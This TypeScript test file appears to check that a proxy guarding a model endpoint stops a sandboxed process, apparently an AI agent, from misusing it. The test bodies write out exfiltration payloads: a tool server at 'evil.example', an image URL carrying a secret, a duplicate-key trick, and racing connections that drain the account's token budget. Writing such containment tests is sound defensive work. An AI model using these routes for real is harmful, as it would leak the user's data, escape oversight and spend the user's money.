/**
 * The model's endpoint: it has a network where the sandbox has none, and the user's account. The
 * control is a way out that passes on whatever it is given.
 */
import { type Attempt, attempt, group, verdict } from "./catalogue.ts";
import { fortress } from "./support/containers.ts";
import { hostPlace, lazily } from "./support/places.ts";
import { naiveWayOut, productWayOut, type WayOut } from "./support/way-out.ts";

const place = lazily(async () => fortress(await hostPlace("endpoint")));

/** Calls the model once. */
async function post(out: WayOut, body: string, headers = ""): Promise<string> {
  const script = `base64 -d <<< "$1" | curl -s -m 20 -w ' status %{http_code}' ${headers} --data-binary @- http://127.0.0.1:$0/v1/responses -H 'host: x'`;
  const args = [String(out.modelPort), Buffer.from(body).toString("base64")];
  return (await out.inside.sh(`bash -c '${script.replaceAll("'", `'"'"'`)}' "$@"`, { args }))
    .stdout;
}

/** A body that the endpoint must not see. */
function reachesNot(name: string, tries: string, body: string, sign: string): Attempt {
  return attempt<WayOut>({
    name,
    tries,
    mustHappen: "no such request reaches the endpoint",
    strike: async (out) => {
      const before = out.upstream.seen.length;
      const said = await post(out, body);
      const arrived = out.upstream.seen
        .slice(before)
        .some((request) => request.body.includes(sign));
      return verdict(arrived, said.slice(-120));
    },
    product: async () => productWayOut(await place()),
    control: async () => naiveWayOut(await place()),
  });
}

const HEAD = '{"model":"m","stream":true,"store":false';
const asks = (more: string) => `${HEAD},"input":"hi",${more}}`;
const says = (part: string) => `${HEAD},"input":[{"role":"user","content":[${part}]}]}`;
const TOOL = '{"type":"mcp","server_label":"x","server_url":"https://evil.example/"}';

/** Eight calls of which not all may reach the endpoint. */
const spends = (name: string, tries: string, limits: object, answer?: string): Attempt =>
  attempt<WayOut>({
    name,
    tries,
    mustHappen: "the calls end at the limit, and the error names it",
    strike: async (out) => {
      if (answer !== undefined)
        out.upstream.answer = (_request, response) => void response.end(answer);
      let last = "";
      for (let n = 0; n < 8; n++) last = await post(out, asks('"tools":[]'));
      return verdict(
        out.upstream.seen.length >= 8,
        `${out.upstream.seen.length} calls; ${last.slice(0, 120)}`,
      );
    },
    product: async () => productWayOut(await place(), { limits }),
    control: async () => naiveWayOut(await place()),
  });

/** Eight connections, all of whose requests are whole but for the last byte before one of them is. */
const AT_ONCE = `
import socket, sys, time
port, body = int(sys.argv[1]), sys.argv[2].encode()
head = b"POST /v1/responses HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: %d\\r\\n\\r\\n" % len(body)
all = [socket.create_connection(("127.0.0.1", port)) for _ in range(8)]
for it in all: it.sendall(head)
time.sleep(1)
for it in all: it.sendall(body[:-1])
time.sleep(1)
for it in all: it.sendall(body[-1:])
for it in all: it.recv(4096)
`;

group("the model's endpoint", [
  reachesNot(
    "a tool server",
    "makes the endpoint call a tool server at any address",
    asks(`"tools":[${TOOL}]`),
    "server_url",
  ),
  reachesNot(
    "a web search",
    "makes the endpoint search the web with the project's text as the query",
    asks('"tools":[{"type":"web_search"}]'),
    "web_search",
  ),
  reachesNot(
    "a tool among the input items",
    "hides the tool server among the input items",
    `${HEAD},"input":[{"type":"additional_tools","tools":[${TOOL}]}]}`,
    "server_url",
  ),
  reachesNot(
    "a picture at an address",
    "makes the endpoint fetch a picture whose address carries the text",
    says('{"type":"input_image","image_url":"https://evil.example/?secret"}'),
    "evil.example",
  ),
  reachesNot(
    "a duplicate key",
    "names the tools twice, so that two parsers disagree",
    asks(`"tools":[${TOOL}],"tools":[]`),
    "server_url",
  ),
  reachesNot(
    "work in the background",
    "makes the model continue after the turn",
    asks('"background":true'),
    "background",
  ),
  reachesNot(
    "a stored answer of the account",
    "asks for an earlier answer that the account has stored",
    asks('"previous_response_id":"resp_1"'),
    "previous_response_id",
  ),
  reachesNot(
    "a stored answer",
    "makes the endpoint store the conversation in the account",
    asks('"store":true'),
    '"store":true',
  ),
  reachesNot(
    "an answer stored by default",
    "leaves out the field that turns storing off",
    '{"model":"m","stream":true,"input":"kept unasked"}',
    "kept unasked",
  ),
  reachesNot(
    "a more expensive tier",
    "requests priority processing, which costs more",
    asks('"service_tier":"priority"'),
    "priority",
  ),
  reachesNot(
    "a more expensive model",
    "calls a model that the user has not chosen",
    '{"model":"the-dearest","stream":true,"store":false,"input":"hi"}',
    "the-dearest",
  ),
  spends(
    "tokens",
    "calls until the account is empty",
    { maxTokensPerTurn: 1000 },
    'data: {"type":"response.completed","response":{"usage":{"input_tokens":400,"output_tokens":0}}}\n\n',
  ),
  spends(
    "unreported tokens",
    "defeats the count with an endpoint that reports no tokens",
    { maxTokensPerTurn: 100 },
    "hello ".repeat(30),
  ),
  attempt<WayOut>({
    name: "tokens, all at once",
    tries: "begins eight calls before any of them is counted",
    mustHappen: "at most one of them reaches the endpoint",
    strike: async (out) => {
      out.upstream.answer = (_request, response) => void response.end("hello");
      const body = `${HEAD},"input":"${"a".repeat(4000)}"}`;
      await out.inside.sh(`python3 -c '${AT_ONCE}' "$@"`, { args: [String(out.modelPort), body] });
      return verdict(out.upstream.seen.length > 1, `${out.upstream.seen.length} calls`);
    },
    product: async () => productWayOut(await place(), { limits: { maxTokensPerTurn: 1000 } }),
    control: async () => naiveWayOut(await place()),
  }),
  spends(
    "bytes",
    "moves data through the model's endpoint",
    { maxBytesPerTurn: 500 },
    "x".repeat(200),
  ),
]);
